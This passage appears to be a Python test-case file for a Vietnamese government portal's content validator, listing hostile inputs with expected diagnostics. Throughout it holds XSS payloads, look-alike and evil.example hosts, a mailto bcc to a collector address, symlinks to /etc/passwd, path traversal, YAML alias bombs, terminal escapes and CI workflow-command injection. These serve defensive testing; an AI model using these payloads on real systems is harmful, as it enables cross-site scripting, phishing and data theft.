"""Hostile and careless inputs, one per class of problem, with the diagnostic each must get.

Each case writes files into a copy of the sample portal; `expected` is the exact line
`validate` prints for it (path:line: severity [code] message).
"""

from __future__ import annotations

import codecs
import os
import unicodedata
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

NEWS = "agencies/ha-noi/tin-tuc"
HEAD = "---\ntitle: Bài thử\ndate: 2026-11-20\n---\n"  # body starts on line 5


@dataclass(frozen=True)
class Case:
    """One bad input: a name, how to make it, and the diagnostic `validate` must print."""

    name: str
    make: Callable[[Path], None]
    expected: tuple[str, ...]


def text(path: str, content: str) -> Callable[[Path], None]:
    """Write `content` as UTF-8 at `path` in the portal."""

    def make(root: Path) -> None:
        (root / path).parent.mkdir(parents=True, exist_ok=True)
        (root / path).write_text(content, "utf-8")

    return make


def raw(path: str, content: bytes) -> Callable[[Path], None]:
    """Write `content` as bytes at `path` in the portal."""

    def make(root: Path) -> None:
        (root / path).parent.mkdir(parents=True, exist_ok=True)
        (root / path).write_bytes(content)

    return make


def symlink(path: str, target: str) -> Callable[[Path], None]:
    """Make `path` a symbolic link to `target`."""

    def make(root: Path) -> None:
        os.symlink(target, root / path)

    return make


def news(name: str, body: str) -> Callable[[Path], None]:
    """Write a news item whose body is `body`."""
    return text(f"{NEWS}/{name}.md", HEAD + body)


def agency(
    slug: str, contacts: str = "", extra: str = "", email: str = "stp@thu.gov.vn"
) -> Callable[[Path], None]:
    """Write the agency.yml of a new agency `slug`: more `contacts`, `extra` lines at its end."""
    return text(
        f"agencies/{slug}/agency.yml",
        f"slug: {slug}\nname: Tỉnh Thử\nkind: province\ncontacts:\n  email: {email}\n"
        f"{contacts}editors: [thu-bientap]\nsections: [tu-sach]\n{extra}",
    )


def both(*makers: Callable[[Path], None]) -> Callable[[Path], None]:
    """Make several files for one case."""

    def make(root: Path) -> None:
        for maker in makers:
            maker(root)

    return make


BOOK = "---\ntitle: Sổ tay\ndate: 2026-11-20\ntep_dinh_kem: [{}]\n---\nNội dung.\n"

TCVN3_TEXT = "Bé T\xad ph¸p h\xadíng dÉn c¸c ®Þa ph\xad¬ng"
VNI_TEXT = "Boä Tö phaùp höôùng daãn caùc ñòa phöông"

VIDEO = (
    "---\ntitle: Video thử\ndate: 2026-11-20\n"
    "url: https://youtube.com.evil.example/watch?v=Qm7tR2vLx9E\n---\nNội dung.\n"
)
ALIAS_BOMB = (
    "---\ntitle: Bom\ndate: 2026-11-20\n"
    'a: &a ["x","x","x","x","x","x","x","x","x"]\n'
    "b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\n"
    "c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\n"
    "tags: [*c,*c,*c,*c,*c,*c,*c,*c,*c]\n---\n"
)

CASES: tuple[Case, ...] = (
    # 1. HTML that must never reach a page, and HTML that is merely dropped.
    Case(
        "script",
        news("script", "Mở đầu.\n\n<script>alert('xss')</script>\n"),
        (
            "agencies/ha-noi/tin-tuc/script.md:7: lỗi [unsafe-html] Thẻ <script> (mã lệnh, nội dung nhúng hoặc biểu mẫu) không được phép trong bài viết và đã bị bỏ; xóa thẻ này.",
        ),
    ),
    Case(
        "event-handler",
        news("event", 'Ảnh:\n\n<img src="anh.png" onerror="alert(1)">\n'),
        (
            'agencies/ha-noi/tin-tuc/event.md:7: lỗi [unsafe-html] Thuộc tính "onerror" (mã lệnh chạy khi có sự kiện) không được phép và đã bị bỏ; xóa thuộc tính này.',
        ),
    ),
    Case(
        "javascript-link",
        news("js-link", "Xem [tại đây](javascript:alert(1)).\n"),
        (
            'agencies/ha-noi/tin-tuc/js-link.md:5: lỗi [unsafe-html] Địa chỉ "javascript:…" trong thẻ <a> không được phép và đã bị bỏ; chỉ dùng địa chỉ https://, mailto:, tel: hoặc đường dẫn tới trang, tệp trong cổng.',
        ),
    ),
    Case(
        "vbscript-link",
        news("vb-link", '<a href="vbscript:msgbox(1)">bấm</a>\n'),
        (
            'agencies/ha-noi/tin-tuc/vb-link.md:5: lỗi [unsafe-html] Địa chỉ "vbscript:…" trong thẻ <a> không được phép và đã bị bỏ; chỉ dùng địa chỉ https://, mailto:, tel: hoặc đường dẫn tới trang, tệp trong cổng.',
        ),
    ),
    Case(
        "data-link",
        news("data-link", "[tải](data:text/html;base64,PHNjcmlwdD4=)\n"),
        (
            'agencies/ha-noi/tin-tuc/data-link.md:5: lỗi [unsafe-html] Địa chỉ "data:…" trong thẻ <a> không được phép và đã bị bỏ; chỉ dùng địa chỉ https://, mailto:, tel: hoặc đường dẫn tới trang, tệp trong cổng.',
        ),
    ),
    Case(
        "iframe",
        news("iframe", '<iframe src="https://evil.example/"></iframe>\n'),
        (
            'agencies/ha-noi/tin-tuc/iframe.md:5: lỗi [unsafe-html] Khung nhúng <iframe> không được phép và đã bị bỏ. Để đăng video, tạo bài trong chuyên mục "video" với trường url là địa chỉ trang xem video.',
        ),
    ),
    Case(
        "srcdoc",
        news("srcdoc", '<iframe srcdoc="<script>alert(1)</script>"></iframe>\n'),
        (
            'agencies/ha-noi/tin-tuc/srcdoc.md:5: lỗi [unsafe-html] Khung nhúng <iframe> không được phép và đã bị bỏ. Để đăng video, tạo bài trong chuyên mục "video" với trường url là địa chỉ trang xem video.',
        ),
    ),
    Case(
        "object",
        news("object", '<object data="x.swf"></object>\n'),
        (
            "agencies/ha-noi/tin-tuc/object.md:5: lỗi [unsafe-html] Thẻ <object> (mã lệnh, nội dung nhúng hoặc biểu mẫu) không được phép trong bài viết và đã bị bỏ; xóa thẻ này.",
        ),
    ),
    Case(
        "embed",
        news("embed", '<embed src="x.swf">\n'),
        (
            "agencies/ha-noi/tin-tuc/embed.md:5: lỗi [unsafe-html] Thẻ <embed> (mã lệnh, nội dung nhúng hoặc biểu mẫu) không được phép trong bài viết và đã bị bỏ; xóa thẻ này.",
        ),
    ),
    Case(
        "form",
        news("form", '<form action="https://evil.example/"><input name="cccd"></form>\n'),
        (
            "agencies/ha-noi/tin-tuc/form.md:5: lỗi [unsafe-html] Thẻ <form> (mã lệnh, nội dung nhúng hoặc biểu mẫu) không được phép trong bài viết và đã bị bỏ; xóa thẻ này.",
            "agencies/ha-noi/tin-tuc/form.md:5: lỗi [unsafe-html] Thẻ <input> (mã lệnh, nội dung nhúng hoặc biểu mẫu) không được phép trong bài viết và đã bị bỏ; xóa thẻ này.",
        ),
    ),
    Case(
        "inline-svg",
        news("svg", "<svg onload=alert(1)><circle r=1 /></svg>\n"),
        (
            'agencies/ha-noi/tin-tuc/svg.md:5: lỗi [unsafe-html] Thuộc tính "onload" (mã lệnh chạy khi có sự kiện) không được phép và đã bị bỏ; xóa thuộc tính này.',
            "agencies/ha-noi/tin-tuc/svg.md:5: lỗi [unsafe-html] Thẻ <svg> (mã lệnh, nội dung nhúng hoặc biểu mẫu) không được phép trong bài viết và đã bị bỏ; xóa thẻ này.",
        ),
    ),
    Case(
        "style",
        news("style", "<style>body{display:none}</style>\n"),
        (
            "agencies/ha-noi/tin-tuc/style.md:5: lỗi [unsafe-html] Thẻ <style> (mã lệnh, nội dung nhúng hoặc biểu mẫu) không được phép trong bài viết và đã bị bỏ; xóa thẻ này.",
        ),
    ),
    Case(
        "remote-image",
        news("remote-image", "![ảnh](https://evil.example/theo-doi.png)\n"),
        (
            'agencies/ha-noi/tin-tuc/remote-image.md:5: cảnh báo [remote-image] Ảnh "https://evil.example/theo-doi.png" lấy từ trang khác nên không được hiển thị (cổng chỉ hiện ảnh của chính mình, để trang nhanh và dùng được khi không có mạng); tải ảnh về, lưu cạnh bài viết và dẫn bằng tên tệp.',
        ),
    ),
    Case(
        "font",
        news("font", '<font color="red">Chữ đỏ</font>\n'),
        (
            "agencies/ha-noi/tin-tuc/font.md:5: cảnh báo [html-removed] Thẻ HTML <font> không được hỗ trợ nên đã bị bỏ (giữ lại chữ bên trong); dùng cú pháp Markdown thay thế.",
        ),
    ),
    Case(
        "theme-class",
        news("theme-class", '<div class="md-header">Giả đầu trang</div>\n'),
        (
            'agencies/ha-noi/tin-tuc/theme-class.md:5: cảnh báo [html-removed] Lớp (class) "md-header" của thẻ <div> không được dùng trong bài viết nên đã bị bỏ.',
        ),
    ),
    Case(
        "look-alike-video",
        text("agencies/bo-tu-phap/video/gia-mao.md", VIDEO),
        (
            'agencies/bo-tu-phap/video/gia-mao.md:4: lỗi [video-host-not-allowed] Trường "url" (Địa chỉ video): "https://youtube.com.evil.example/watch?v=Qm7tR2vLx9E" không phải địa chỉ một video trên trang được phép nhúng (m.youtube.com, player.vimeo.com, vimeo.com, www.vimeo.com, www.youtube-nocookie.com, www.youtube.com, youtu.be, youtube.com); dán địa chỉ trang xem video, ví dụ https://www.youtube.com/watch?v=… (video host not allowed).',
        ),
    ),
    Case(
        "svg-file",
        raw(f"{NEWS}/anh.svg", b"<svg onload='alert(1)'/>"),
        (
            "agencies/ha-noi/tin-tuc/anh.svg:1: lỗi [svg-refused] Ảnh SVG có thể chứa mã lệnh nên không được đăng; hãy xuất ảnh sang PNG, JPEG hoặc WebP rồi thay tệp này.",
        ),
    ),
    Case(
        "html-as-png",
        raw(f"{NEWS}/anh-gia.png", b"<html><script>alert(1)</script>"),
        (
            'agencies/ha-noi/tin-tuc/anh-gia.png:1: lỗi [asset-type-mismatch] Nội dung tệp không phải định dạng ".png" như đuôi tên tệp; hãy lưu lại đúng định dạng (đổi tên đuôi không chuyển được định dạng).',
        ),
    ),
    # 2. Files and paths.
    Case(
        "symlink-file",
        symlink(f"{NEWS}/mat-khau.md", "/etc/passwd"),
        (
            "agencies/ha-noi/tin-tuc/mat-khau.md:1: lỗi [symlink] Liên kết tượng trưng (symlink) không được phép trong thư mục nội dung; hãy thay bằng tệp thật.",
        ),
    ),
    Case(
        "symlink-folder",
        symlink("agencies/ha-noi/hoi-dap-2", "/etc"),
        (
            "agencies/ha-noi/hoi-dap-2:1: lỗi [symlink] Liên kết tượng trưng (symlink) không được phép trong thư mục nội dung; hãy thay bằng tệp thật.",
        ),
    ),
    Case(
        "uppercase-slug",
        news("Tin-Moi", "Nội dung.\n"),
        (
            'agencies/ha-noi/tin-tuc/Tin-Moi.md:1: lỗi [invalid-slug] Tên tệp "Tin-Moi.md" chỉ được gồm chữ thường không dấu, số và dấu gạch ngang, ví dụ "tin-moi.md"; tên tệp là địa chỉ trang.',
        ),
    ),
    Case(
        "asset-name",
        raw(f"{NEWS}/Ảnh 1.PNG", b"\x89PNG\r\n\x1a\n"),
        (
            'agencies/ha-noi/tin-tuc/Ảnh 1.PNG:1: lỗi [invalid-slug] Tên tệp "Ảnh 1.PNG" chỉ được gồm chữ thường không dấu, số và dấu gạch ngang, đuôi viết thường, ví dụ "anh-1.png".',
        ),
    ),
    # 3. YAML.
    Case(
        "alias-bomb",
        text(f"{NEWS}/bom.md", ALIAS_BOMB),
        (
            "agencies/ha-noi/tin-tuc/bom.md:4: lỗi [yaml-alias] Không dùng neo và bí danh YAML (&, *) trong tệp nội dung; hãy viết giá trị đầy đủ.",
        ),
    ),
    Case(
        "duplicate-key",
        text(f"{NEWS}/trung.md", "---\ntitle: A\ndate: 2026-11-20\ntitle: B\n---\n"),
        (
            'agencies/ha-noi/tin-tuc/trung.md:4: lỗi [duplicate-key] Khóa "title" xuất hiện hai lần (lần đầu ở dòng 2); hãy xóa một dòng.',
        ),
    ),
    Case(
        "impossible-date",
        text(f"{NEWS}/ngay.md", "---\ntitle: A\ndate: 2024-02-30\n---\n"),
        (
            'agencies/ha-noi/tin-tuc/ngay.md:3: lỗi [invalid-date] Trường "date" (Ngày đăng) phải là một ngày có thật, viết theo dạng YYYY-MM-DD (ví dụ 2025-07-01); giá trị hiện tại "2024-02-30" không hợp lệ.',
        ),
    ),
    Case(
        "number-as-title",
        text(f"{NEWS}/so.md", "---\ntitle: 2024\ndate: 2026-11-20\n---\n"),
        (
            'agencies/ha-noi/tin-tuc/so.md:2: lỗi [wrong-type] Trường "title" (Tiêu đề) phải là một đoạn văn bản, nhưng đang là số "2024". Nếu giá trị là văn bản, đặt nó trong dấu ngoặc kép.',
        ),
    ),
    Case(
        "huge-front-matter",
        text(
            f"{NEWS}/lon.md",
            "---\ntitle: A\ndate: 2026-11-20\ndescription: " + "x" * 70000 + "\n---\n",
        ),
        (
            "agencies/ha-noi/tin-tuc/lon.md:2: lỗi [front-matter-too-large] Phần thông tin đầu tệp dài hơn 64 KB; hãy chuyển nội dung dài xuống phần thân bài.",
        ),
    ),
    # 4. Size and time.
    Case(
        "nested-brackets",
        news("ngoac", "[" * 20000 + "a\n"),
        (
            "agencies/ha-noi/tin-tuc/ngoac.md:5: lỗi [markdown-too-deep] Ngoặc lồng nhau hoặc chưa đóng quá 32 lần trong một đoạn; kiểm tra các dấu [ ] và ( ).",
        ),
    ),
    Case(
        "nested-lists",
        news("danh-sach", "- " * 1000 + "a\n"),
        (
            "agencies/ha-noi/tin-tuc/danh-sach.md:5: lỗi [markdown-too-deep] Hơn 16 dấu đầu dòng danh sách lồng nhau trên một dòng; bớt các dấu - hoặc * ở đầu dòng.",
        ),
    ),
    Case(
        "nested-quotes",
        news("trich-dan", ">" * 3000 + " a\n"),
        (
            "agencies/ha-noi/tin-tuc/trich-dan.md:5: lỗi [markdown-too-deep] Trích dẫn lồng nhau quá 16 cấp (dấu >); bớt các dấu > ở đầu dòng.",
        ),
    ),
    Case(
        "emphasis-run",
        news("nhan-manh", "_" * 10000 + "a" + "_" * 10000 + "\n"),
        (
            "agencies/ha-noi/tin-tuc/nhan-manh.md:5: lỗi [markdown-too-deep] Chuỗi hơn 256 dấu * hoặc _ liên tiếp; dùng dấu … cho chỗ trống cần điền.",
        ),
    ),
    Case(
        "huge-page",
        news("qua-dai", "Chữ. " * 120000),
        (
            "agencies/ha-noi/tin-tuc/qua-dai.md:1: lỗi [file-too-large] Tệp lớn hơn 512 KB; hãy chia thành nhiều bài hoặc đưa tài liệu dài vào tệp đính kèm.",
        ),
    ),
    Case(
        "abbreviations",
        news("viet-tat", "".join(f"*[VT{i}]: viết tắt {i}\n" for i in range(300))),
        (
            "agencies/ha-noi/tin-tuc/viet-tat.md:55: lỗi [markdown-too-deep] Bài có hơn 50 định nghĩa viết tắt (*[…]: …); chỉ giữ những chữ viết tắt thật sự cần giải thích.",
        ),
    ),
    # 5. Text.
    Case(
        "tcvn3-bytes",
        raw(f"{NEWS}/tcvn3.md", HEAD.encode() + TCVN3_TEXT.encode("cp1252")),
        (
            "agencies/ha-noi/tin-tuc/tcvn3.md:5: lỗi [not-utf8] Tệp không được lưu bằng mã UTF-8 (có vẻ là bảng mã TCVN3): byte 44 không đọc được. Mở tệp bằng trình soạn thảo, chuyển sang Unicode và lưu với mã hóa UTF-8 rồi gửi lại.",
        ),
    ),
    Case(
        "utf16",
        raw(f"{NEWS}/utf16.md", codecs.BOM_UTF16_LE + (HEAD + "Chào.").encode("utf-16-le")),
        (
            "agencies/ha-noi/tin-tuc/utf16.md:1: lỗi [not-utf8] Tệp được lưu bằng mã UTF-16 (byte 0); mở tệp bằng trình soạn thảo và lưu lại với mã hóa UTF-8 (saved as UTF-16, save as UTF-8).",
        ),
    ),
    Case(
        "nfd",
        news("nfd", unicodedata.normalize("NFD", "Luật Đất đai năm 2024.\n")),
        (
            "agencies/ha-noi/tin-tuc/nfd.md:5: cảnh báo [not-nfc] Chữ tiếng Việt được lưu ở dạng tổ hợp (NFD, dấu tách khỏi chữ) nên tìm kiếm và sắp xếp có thể sai; chạy '.venv/bin/python build.py validate --fix' để chuyển về dạng dựng sẵn (NFC).",
        ),
    ),
    Case(
        "tcvn3-mojibake",
        news("ma-tcvn3", TCVN3_TEXT + "\n"),
        (
            "agencies/ha-noi/tin-tuc/ma-tcvn3.md:5: cảnh báo [legacy-encoding] Văn bản có vẻ được gõ bằng bảng mã TCVN3 (ABC, phông .VnTime) nên hiển thị sai dấu. Chuyển mã sang Unicode (ví dụ Unikey: Công cụ chuyển mã, nguồn TCVN3, đích Unicode) rồi dán lại và lưu tệp bằng UTF-8.",
        ),
    ),
    Case(
        "vni-mojibake",
        news("ma-vni", VNI_TEXT + "\n"),
        (
            "agencies/ha-noi/tin-tuc/ma-vni.md:5: cảnh báo [legacy-encoding] Văn bản có vẻ được gõ bằng bảng mã VNI (phông VNI-Times) nên hiển thị sai dấu. Chuyển mã sang Unicode (ví dụ Unikey: Công cụ chuyển mã, nguồn VNI, đích Unicode) rồi dán lại và lưu tệp bằng UTF-8.",
        ),
    ),
    Case(
        "bidi",
        news("bidi", "Số tiền: 1000\u202e000 đồng\n"),
        (
            "agencies/ha-noi/tin-tuc/bidi.md:5: lỗi [bidi-control] Ký tự điều khiển hướng chữ U+202E (cột 14) có thể làm chữ hiển thị khác với nội dung thật; xóa ký tự này.",
        ),
    ),
    Case(
        "zero-width",
        news("an", "Luật\u200b Đất đai\n"),
        (
            "agencies/ha-noi/tin-tuc/an.md:5: cảnh báo [invisible-character] Ký tự ẩn U+200B ở 1 dòng (dòng 5), thường do sao chép từ trang khác; chạy '.venv/bin/python build.py validate --fix' để xóa.",
        ),
    ),
    # 6. YAML that used to crash every command (round two).
    Case(
        "yaml-control-character",
        text(
            f"{NEWS}/dieu-khien.md",
            "---\ntitle: Tin\x1b]52;c;ZXZpbA==\x07 mới\ndate: 2026-11-20\n---\n",
        ),
        (
            "agencies/ha-noi/tin-tuc/dieu-khien.md:2: lỗi [control-character] Ký tự điều khiển U+0007, U+001B ở 1 dòng (dòng 2), không phải chữ và làm hỏng trang, nguồn tin, tệp dữ liệu; thường do sao chép từ phần mềm khác. Chạy '.venv/bin/python build.py validate --fix' để xóa, hoặc gõ lại dòng đó (control characters).",
        ),
    ),
    Case(
        "yaml-nul",
        text(f"{NEWS}/nul.md", "---\ntitle: Tin\x00 mới\ndate: 2026-11-20\n---\nNội dung.\n"),
        (
            "agencies/ha-noi/tin-tuc/nul.md:2: lỗi [control-character] Ký tự điều khiển U+0000 ở 1 dòng (dòng 2), không phải chữ và làm hỏng trang, nguồn tin, tệp dữ liệu; thường do sao chép từ phần mềm khác. Chạy '.venv/bin/python build.py validate --fix' để xóa, hoặc gõ lại dòng đó (control characters).",
        ),
    ),
    Case(
        "yaml-huge-integer",
        text(
            "agencies/ha-noi/so-lieu/so-rat-lon.md",
            "---\ntitle: Số liệu\ndate: 2026-11-20\nnam: 2025\nky_bao_cao: Năm 2025\nchi_tieu:\n  so_cuoc_truc_tiep: "
            + "9" * 5000
            + "\n---\n",
        ),
        (
            "agencies/ha-noi/so-lieu/so-rat-lon.md:7: lỗi [number-too-large] Số dài 5000 chữ số, quá lớn cho một giá trị của cổng; kiểm tra lại số liệu (nếu là văn bản, đặt trong dấu ngoặc kép).",
        ),
    ),
    Case(
        "yaml-impossible-timestamp",
        text(f"{NEWS}/ngay-gia.md", "---\ntitle: Tin\ndate: !!timestamp 2024-02-30\n---\n"),
        (
            'agencies/ha-noi/tin-tuc/ngay-gia.md:3: lỗi [yaml-tag] Không dùng thẻ kiểu YAML "timestamp" (!!…) trong tệp nội dung; viết giá trị thường, ví dụ ngày dạng 2025-07-01.',
        ),
    ),
    Case(
        "yaml-deep-brackets",
        text(
            f"{NEWS}/ngoac-yaml.md",
            "---\ntitle: Tin\ndate: 2026-11-20\ntags: " + "[" * 30000 + "]" * 30000 + "\n---\n",
        ),
        (
            "agencies/ha-noi/tin-tuc/ngoac-yaml.md:4: lỗi [yaml-too-deep] Dấu ngoặc [ ] hoặc { } lồng nhau quá 16 cấp; thông tin đầu tệp chỉ cần danh sách đơn giản, ví dụ tags: [đất đai, nhà ở].",
        ),
    ),
    # 7. Names and keys that try to write on the terminal or the CI log.
    Case(
        "slug-trailing-newline",
        text(f"{NEWS}/tin-moi\n.md", HEAD + "Nội dung.\n"),
        (
            'agencies/ha-noi/tin-tuc/tin-moi ↵ .md:1: lỗi [invalid-slug] Tên tệp "tin-moi ↵ .md" chỉ được gồm chữ thường không dấu, số và dấu gạch ngang, ví dụ "tin-moi.md"; tên tệp là địa chỉ trang.',
        ),
    ),
    Case(
        "workflow-command-in-key",
        text(
            f"{NEWS}/lenh.md",
            '---\ntitle: Tin\ndate: 2026-11-20\n"x\\n::add-mask::bi-mat\\n::error file=a::b": 1\n---\nNội dung.\n',
        ),
        (
            'agencies/ha-noi/tin-tuc/lenh.md:4: cảnh báo [unknown-field] Trường "x ↵ ::add-mask::bi-mat ↵ ::error file=a::b" không có trong mẫu của chuyên mục "Tin tức, hoạt động" nên sẽ bị bỏ qua; kiểm tra lỗi chính tả. Các trường hợp lệ: title, date, description, tags, linh_vuc, draft, publish_at, withdrawn, redirect_from, da_ra_soat, han_ra_soat, ghi_chu_thay_doi.',
        ),
    ),
    Case(
        "terminal-escape-in-name",
        text(f"{NEWS}/\x1b]8;;https:evil.example\x07xem\x1b]8;;\x07.md", HEAD + "Nội dung.\n"),
        (
            'agencies/ha-noi/tin-tuc/\\x1b]8;;https:evil.example\\x07xem\\x1b]8;;\\x07.md:1: lỗi [invalid-slug] Tên tệp "\\x1b]8;;https:evil.example\\x07xem\\x1b]8;;\\x07.md" chỉ được gồm chữ thường không dấu, số và dấu gạch ngang, ví dụ "8-https-evil-example-xem-8.md"; tên tệp là địa chỉ trang.',
        ),
    ),
    # 8. Addresses in agency.yml and attachments: the portal's one URL allow-list.
    Case(
        "website-javascript",
        agency("tinh-url-a", "  website: javascript:alert(document.domain)\n"),
        (
            'agencies/tinh-url-a/agency.yml:4: lỗi [invalid-contact] Trường "contacts.website" (Thông tin liên hệ): "javascript:alert(document.domain)" không hợp lệ; viết địa chỉ https:// của trang chính thức trên tên miền .vn, ví dụ https://moj.gov.vn.',
        ),
    ),
    Case(
        "website-data-url",
        agency(
            "tinh-url-b", "  website: data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\n"
        ),
        (
            'agencies/tinh-url-b/agency.yml:4: lỗi [invalid-contact] Trường "contacts.website" (Thông tin liên hệ): "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==" không hợp lệ; viết địa chỉ https:// của trang chính thức trên tên miền .vn, ví dụ https://moj.gov.vn.',
        ),
    ),
    Case(
        "mailto-bcc",
        agency(
            "tinh-url-c",
            '  phone: "0214 3840 123"\n',
            email="stp@thu.gov.vn?bcc=thu-thap@evil.example",
        ),
        (
            'agencies/tinh-url-c/agency.yml:4: lỗi [invalid-contact] Trường "contacts.email" (Thông tin liên hệ): "stp@thu.gov.vn?bcc=thu-thap@evil.example" không hợp lệ; viết một địa chỉ thư điện tử, ví dụ pbgdpl@moj.gov.vn (không kèm ?cc=, ?bcc=).',
        ),
    ),
    Case(
        "look-alike-send-question",
        agency(
            "tinh-url-d", extra="send_question: https://dichvucong.gov.vn.evil.example/hoi-dap\n"
        ),
        (
            'agencies/tinh-url-d/agency.yml:8: lỗi [invalid-question-target] Trường "send_question" (Nơi nhận câu hỏi của người dân) phải là một địa chỉ thư điện tử (ví dụ hoidap@moj.gov.vn) hoặc địa chỉ biểu mẫu https:// trên tên miền .vn của cơ quan; giá trị hiện tại: "https://dichvucong.gov.vn.evil.example/hoi-dap".',
        ),
    ),
    Case(
        "attachment-traversal",
        both(
            agency("tinh-thu"),
            text("agencies/tinh-thu/tu-sach/so-tay.md", BOOK.format("../../../content/portal.yml")),
        ),
        (
            'agencies/tinh-thu/tu-sach/so-tay.md:4: lỗi [attachment-path] Tệp đính kèm "../../../content/portal.yml" phải là tên một tệp đặt cùng thư mục với bài (agencies/tinh-thu/tu-sach/), không kèm đường dẫn.',
        ),
    ),
    Case(
        "attachment-missing-in-bookshelf",
        text("agencies/tinh-thu/tu-sach/so-tay-2.md", BOOK.format("khong-co.pdf")),
        (
            'agencies/tinh-thu/tu-sach/so-tay-2.md:4: lỗi [attachment-missing] Không tìm thấy tệp đính kèm "khong-co.pdf" trong thư mục agencies/tinh-thu/tu-sach/; thêm tệp hoặc sửa tên trong "tep_dinh_kem".',
        ),
    ),
    Case(
        "image-backslash-host",
        news("anh-cheo", '<img src="/\\evil.example/theo-doi.png" alt="ảnh">\n'),
        (
            'agencies/ha-noi/tin-tuc/anh-cheo.md:5: cảnh báo [remote-image] Ảnh "/\\evil.example/theo-doi.png" lấy từ trang khác nên không được hiển thị (cổng chỉ hiện ảnh của chính mình, để trang nhanh và dùng được khi không có mạng); tải ảnh về, lưu cạnh bài viết và dẫn bằng tên tệp.',
        ),
    ),
    Case(
        "mailto-bcc-in-body",
        news("thu-bcc", "[Gửi thư](mailto:stp@thu.gov.vn?bcc=thu-thap@evil.example)\n"),
        (
            'agencies/ha-noi/tin-tuc/thu-bcc.md:5: cảnh báo [html-removed] Địa chỉ "mailto:stp@thu.gov.vn?bcc=thu-thap@evil.example" trong thẻ <a> không được hỗ trợ nên đã bị bỏ; dùng https://, mailto:, tel: hoặc đường dẫn trong cổng.',
        ),
    ),
    # 9. Ids of the theme's own parts.
    Case(
        "theme-heading-id",
        news("id-giao-dien", '<h2 id="lien-he">Liên hệ giả</h2>\n'),
        (
            'agencies/ha-noi/tin-tuc/id-giao-dien.md:5: cảnh báo [html-removed] Mã định danh id="lien-he" có thể trùng với tên dành riêng của giao diện nên đã bị bỏ; tiêu đề Markdown (## …) tự có id riêng, hãy dẫn tới id đó.',
        ),
    ),
    # 10. Another agency's legal documents.
    Case(
        "cross-agency-repeal",
        both(
            text(
                "agencies/tinh-van-ban/agency.yml",
                "slug: tinh-van-ban\nname: Tỉnh Văn Bản\nkind: province\ncontacts:\n  email: stp@vb.gov.vn\neditors: [vb-bientap]\nsections: [van-ban-moi]\n",
            ),
            text(
                "agencies/tinh-van-ban/van-ban-moi/quyet-dinh-9-2025-qd-ubnd.md",
                '---\ntitle: Quyết định bãi bỏ Luật Đất đai\nso_ky_hieu: "9/2025/QĐ-UBND"\nloai_van_ban: Quyết định\nco_quan_ban_hanh: Ủy ban nhân dân tỉnh Sơn La\nnguoi_ky: Nguyễn Văn A\nngay_ban_hanh: 2025-03-01\nngay_hieu_luc: 2025-03-15\nlinh_vuc: [Đất đai]\ntrich_yeu: Bãi bỏ Luật Đất đai\nbai_bo: ["31/2024/QH15"]\n---\nNội dung.\n',
            ),
        ),
        (
            'agencies/tinh-van-ban/van-ban-moi/quyet-dinh-9-2025-qd-ubnd.md:11: lỗi [cross-agency-relation] Văn bản "9/2025/QĐ-UBND" (Ủy ban nhân dân tỉnh Sơn La) không thể bãi bỏ văn bản "31/2024/QH15" do Quốc hội ban hành, đăng ở agencies/bo-nong-nghiep-va-moi-truong/van-ban-moi/luat-dat-dai-31-2024-qh15.md: chỉ văn bản của cùng cơ quan ban hành mới thay đổi được hiệu lực văn bản của trang thành phần khác. Xóa số này khỏi "bai_bo", hoặc đề nghị Ban Biên tập xem xét.',
        ),
    ),
    # 11. Figures no agency can report.
    Case(
        "implausible-figure",
        text(
            "agencies/ha-noi/so-lieu/so-qua-muc.md",
            "---\ntitle: Số liệu\ndate: 2026-11-20\nnam: 2025\nky_bao_cao: Năm 2025\nchi_tieu:\n  so_cuoc_truc_tiep: 120000000000\n---\n",
        ),
        (
            'agencies/ha-noi/so-lieu/so-qua-muc.md:6: lỗi [implausible-count] Chỉ tiêu "so_cuoc_truc_tiep" (Số cuộc phổ biến pháp luật trực tiếp) là 120.000.000.000 cuộc, vượt mức hợp lý của một đơn vị trong một năm (1.000.000); kiểm tra lại số liệu (có thể thừa chữ số).',
        ),
    ),
    # 12. Names a section's own pages use.
    Case(
        "index-in-section",
        news("index", "Nội dung.\n"),
        (
            'agencies/ha-noi/tin-tuc/index.md:1: lỗi [reserved-item-name] Tên tệp "index.md" là tên dành cho trang danh sách của chuyên mục (ha-noi/tin-tuc/); đổi tên tệp theo tiêu đề bài, ví dụ "tin-moi.md".',
        ),
    ),
    Case(
        "listing-page-name",
        news("trang-2", "Nội dung.\n"),
        (
            'agencies/ha-noi/tin-tuc/trang-2.md:1: lỗi [reserved-item-name] Tên tệp "trang-2.md" là tên dành cho trang danh sách của chuyên mục (ha-noi/tin-tuc/trang-2); đổi tên tệp theo tiêu đề bài, ví dụ "tin-moi.md".',
        ),
    ),
    # 13. Markdown that takes seconds to minutes to render, named in milliseconds.
    Case(
        "unclosed-tags",
        news("the-mo", "Mở đầu.\n\n" + ("<a " * 25 + "\n") * 2600),
        (
            "agencies/ha-noi/tin-tuc/the-mo.md:9: lỗi [markdown-too-deep] Hơn 64 thẻ HTML mở (<…) chưa đóng bằng dấu >; xóa các dấu < thừa hoặc viết chúng là &lt;.",
        ),
    ),
    Case(
        "backslash-runs",
        news("gach-cheo", "Mở đầu.\n\n" + ("\\" * 80 + "\n") * 2400),
        (
            "agencies/ha-noi/tin-tuc/gach-cheo.md:7: lỗi [markdown-too-deep] Đoạn văn bắt đầu ở dòng này có hơn 1000 ký tự định dạng (\\ ` < & [ * _ !); hãy chia đoạn bằng dòng trống hoặc bớt các ký tự này.",
        ),
    ),
    Case(
        "table-backticks",
        news(
            "bang-dau-huyen",
            "| a | b |\n|---|---|\n" + ("| " + "`" * 40 + " | " + "`" * 39 + " |\n") * 2000,
        ),
        (
            "agencies/ha-noi/tin-tuc/bang-dau-huyen.md:5: lỗi [markdown-too-deep] Đoạn văn bắt đầu ở dòng này có hơn 1000 ký tự định dạng (\\ ` < & [ * _ !); hãy chia đoạn bằng dòng trống hoặc bớt các ký tự này.",
        ),
    ),
    Case(
        "definition-list-recursion",
        news("dinh-nghia", "".join(f"T{i}\n: D{i}\n" for i in range(700))),
        (
            'agencies/ha-noi/tin-tuc/dinh-nghia.md:5: lỗi [markdown-too-deep] Danh sách định nghĩa bắt đầu ở dòng này có hơn 100 dòng bắt đầu bằng ": "; hãy chia thành nhiều danh sách bằng dòng trống.',
        ),
    ),
